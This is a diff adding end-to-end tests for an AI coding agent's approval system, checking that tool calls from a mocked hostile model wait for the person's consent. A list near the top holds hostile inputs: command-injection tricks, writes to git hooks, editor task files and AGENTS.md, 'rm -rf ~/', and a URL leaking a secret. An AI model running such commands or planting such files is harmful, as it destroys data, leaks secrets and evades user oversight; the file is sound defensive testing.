@@ -1,0 +1,168 @@
+import { mkdir, readFile, symlink, writeFile } from 'node:fs/promises'
+import { createRequire } from 'node:module'
+import { join } from 'node:path'
+import type { Page } from '@playwright/test'
+import type { AxeResults } from 'axe-core'
+import { calling, saying } from '../helpers/chat-answers'
+import { modelServer } from '../helpers/model-server'
+import { type Atrium, expect, test } from './launch'
+import { card, connectModel, countFiles, isThere, openFolder, say, timeline, toolLine } from './person'
+
+const axeFile = createRequire(import.meta.url).resolve('axe-core/axe.min.js')
+
+async function seriousFindings(page: Page): Promise<string[]> {
+  await page.evaluate(await readFile(axeFile, 'utf8'))
+  const { violations } = await page.evaluate(() =>
+    (window as unknown as { axe: { run(): Promise<AxeResults> } }).axe.run(),
+  )
+  return violations
+    .filter(({ impact }) => impact === 'serious' || impact === 'critical')
+    .map(({ id, nodes }) => `${id}: ${nodes.map(node => node.target.join(' ')).join(', ')}`)
+}
+
+type Mode = 'Read only' | 'Ask' | 'Auto-edit' | 'Full'
+
+async function choose(page: Page, mode: Mode): Promise<void> {
+  await page.getByRole('button', { name: /^Approvals:/ }).click()
+  await page.getByRole('menuitemradio', { name: new RegExp(`^${mode}`) }).click()
+  await expect(page.getByRole('button', { name: `Approvals: ${mode}` })).toBeVisible()
+}
+
+async function start({
+  launch,
+  folder,
+}: {
+  launch(data: string): Promise<Atrium>
+  folder(name: string): Promise<string>
+}) {
+  const server = await modelServer()
+  const workspace = await folder('work')
+  await writeFile(join(workspace, 'a'), 'x\n')
+  const atrium = await launch(await folder('data'))
+  await connectModel(atrium.page, server.baseUrl)
+  await openFolder(atrium, workspace)
+  return { server, workspace, page: atrium.page }
+}
+
+const hostile: readonly [mode: Mode, tool: string, input: object, grave?: boolean][] = [
+  ['Ask', 'shell', { command: 'echo $(touch canary)' }],
+  ['Ask', 'shell', { command: 'ls\ntouch canary' }],
+  ['Ask', 'shell', { command: 'find . -exec touch canary \\;' }],
+  ['Ask', 'shell', { command: 'git -c core.pager="touch canary" log' }],
+  ['Ask', 'shell', { command: 'ls \u202e; touch canary' }],
+  ['Ask', 'shell', { command: 'cat link' }],
+  ['Auto-edit', 'shell', { command: 'touch canary' }],
+  ['Auto-edit', 'write_file', { path: '.vscode/tasks.json', content: 'canary' }, true],
+  ['Auto-edit', 'write_file', { path: 'AGENTS.md', content: 'canary' }, true],
+  ['Full', 'write_file', { path: '.git/hooks/pre-commit', content: 'canary' }, true],
+  ['Full', 'shell', { command: 'bash -c "touch canary"' }],
+  ['Full', 'shell', { command: 'rm -rf ~/' }, true],
+  ['Full', 'read_web_url', { url: 'https://example.com/?leak=secret' }],
+]
+
+test('nothing that a hostile model asks for happens before the person agrees', async ({ launch, folder }) => {
+  test.setTimeout(180_000)
+  const { server, workspace, page } = await start({ launch, folder })
+  const outside = await folder('outside')
+  await mkdir(join(outside, 'deep'))
+  await writeFile(join(outside, 'deep/secret'), 'secret')
+  await symlink(join(outside, 'deep/secret'), join(workspace, 'link'))
+  const before = await countFiles(workspace)
+  let done = 0
+  for (const [mode, tool, input, grave] of hostile) {
+    await choose(page, mode)
+    const word = `Turn ${++done} is over.`
+    server.add(calling(tool, input), saying(word))
+    await say(page, 'go')
+    await expect(card(page)).toBeVisible()
+    if (grave) await expect(card(page)).toHaveAttribute('data-grave', 'true')
+    expect(await countFiles(workspace)).toBe(before)
+    expect(await isThere(workspace, 'canary')).toBe(false)
+    await card(page).getByRole('button', { name: 'Deny Esc' }).click()
+    await expect(timeline(page)).toContainText(word)
+  }
+  await choose(page, 'Read only')
+  server.add(calling('write_file', { path: 'canary', content: '' }), saying('Read only.'))
+  await say(page, 'go')
+  await expect(timeline(page)).toContainText('Read only.')
+  await expect(card(page)).toHaveCount(0)
+  expect(await countFiles(workspace)).toBe(before)
+  await server.close()
+})
+
+test('what only reads runs without asking; a rule is made on a card, seen, tried out and taken back', async ({
+  launch,
+  folder,
+}) => {
+  const { server, workspace, page } = await start({ launch, folder })
+  server.add(calling('shell', { command: 'cat a' }), calling('shell', { command: 'touch one' }), saying('First.'))
+  await say(page, 'go')
+  await expect(card(page)).toContainText('touch one')
+  await expect(toolLine(page, 'cat a')).toBeVisible()
+  expect(await seriousFindings(page)).toEqual([])
+  await card(page).getByRole('button', { name: 'Always in this folder…' }).click()
+  await expect(page.getByRole('menuitem')).toHaveCount(2)
+  await page.getByRole('menuitem', { name: /<path>/ }).click()
+  await expect(timeline(page)).toContainText('First.')
+  expect(await isThere(workspace, 'one')).toBe(true)
+
+  server.add(calling('shell', { command: 'touch two' }), saying('Second.'))
+  await say(page, 'go')
+  await expect(timeline(page)).toContainText('Second.')
+  expect(await isThere(workspace, 'two')).toBe(true)
+
+  await page.getByRole('button', { name: 'Settings' }).click()
+  const settings = page.getByRole('dialog', { name: 'Settings' })
+  await settings.getByRole('tab', { name: 'Permissions' }).click()
+  await expect(settings.getByRole('list', { name: 'What is allowed' })).toContainText('touch <path>')
+  await expect(settings.getByRole('list', { name: 'What is allowed' })).toContainText('used once')
+  await settings.getByRole('textbox', { name: 'Command' }).fill('touch three')
+  await page.keyboard.press('Enter')
+  await expect(settings.getByRole('status')).toContainText('Runs without asking')
+  expect(await seriousFindings(page)).toEqual([])
+  await settings.getByRole('button', { name: /^Remove:/ }).click()
+  await settings.getByRole('button', { name: /^Remove/ }).click()
+  await expect(settings).toContainText('Nothing yet')
+  await settings.getByRole('textbox', { name: 'Command' }).press('Enter')
+  await expect(settings.getByRole('status')).toContainText('Is asked')
+  await page.keyboard.press('Escape')
+
+  server.add(calling('shell', { command: 'touch four' }), saying('Third.'))
+  await say(page, 'go')
+  await expect(card(page)).toContainText('touch four')
+  expect(await isThere(workspace, 'four')).toBe(false)
+  await server.close()
+})
+
+test('the person writes another command and another content, and the model is told', async ({ launch, folder }) => {
+  const { server, workspace, page } = await start({ launch, folder })
+  server.add(calling('shell', { command: 'touch theirs' }), saying('Ran.'))
+  await say(page, 'go')
+  await card(page).getByRole('button', { name: 'Edit…' }).click()
+  await card(page)
+    .getByRole('textbox', { name: /command/ })
+    .fill('touch mine')
+  await card(page).getByRole('button', { name: 'Show what this would do' }).click()
+  await expect(card(page)).toContainText('You changed this')
+  await card(page)
+    .getByRole('button', { name: /^Run command/ })
+    .click()
+  await expect(timeline(page)).toContainText('Ran.')
+  expect([await isThere(workspace, 'mine'), await isThere(workspace, 'theirs')]).toEqual([true, false])
+
+  server.add(calling('write_file', { path: 'b.md', content: 'theirs\n' }), saying('Wrote.'))
+  await say(page, 'go')
+  await card(page).getByRole('button', { name: 'Edit…' }).click()
+  const content = card(page).getByRole('textbox', { name: /content/ })
+  await expect(content).toHaveValue('theirs\n')
+  await content.fill('mine\n')
+  await card(page).getByRole('button', { name: 'Show what this would do' }).click()
+  await expect(card(page)).toContainText('You changed this')
+  await card(page)
+    .getByRole('button', { name: /^Create b.md/ })
+    .click()
+  await expect(timeline(page)).toContainText('Wrote.')
+  expect(await readFile(join(workspace, 'b.md'), 'utf8')).toBe('mine\n')
+  expect(JSON.stringify(server.requests.at(-1)?.body)).toContain('The person edited the content of b.md')
+  await server.close()
+})
